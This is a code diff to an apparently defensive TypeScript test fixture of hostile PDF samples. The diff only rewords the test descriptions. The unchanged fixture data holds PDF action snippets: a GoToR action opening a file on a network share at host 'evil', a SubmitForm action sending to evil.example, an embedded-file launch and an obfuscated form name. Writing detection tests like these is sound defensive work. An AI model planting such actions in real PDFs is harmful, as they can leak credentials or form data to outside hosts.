@@ -126,7 +126,7 @@ export const activePdfs: HostileFile[] = [
     ['a form with scripts in one stream', '<</AcroForm<</Fields[]/#58FA % form\n5 0 R>>>>'],
     ['an action that opens an embedded file', '<</OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>>>'],
     [
-      'an action that opens a file of a share',
+      'an action that opens a file on a network share',
       '<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>>>',
     ],
     ['an action that sends a form', '<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>'],
@@ -142,7 +142,7 @@ export const activePdfs: HostileFile[] = [
   ),
   [
     'cv_document',
-    'a PDF with a file that nobody opens for the reader',
+    'a PDF with an embedded file that isn’t opened automatically',
     'a.pdf',
     pdfOf('4 0 obj\n<</Type/EmbeddedFile/Length 0>>stream\n\nendstream\nendobj\n'),
     { type: 'application/pdf' },
@@ -156,7 +156,7 @@ export const activePdfs: HostileFile[] = [
   ],
   [
     'cv_document',
-    'compressed objects that are broken',
+    'broken compressed objects',
     'a.pdf',
     pdfOf('<</Type/ObjStm>>\nstream\nxxx\nendstream'),
     damaged,
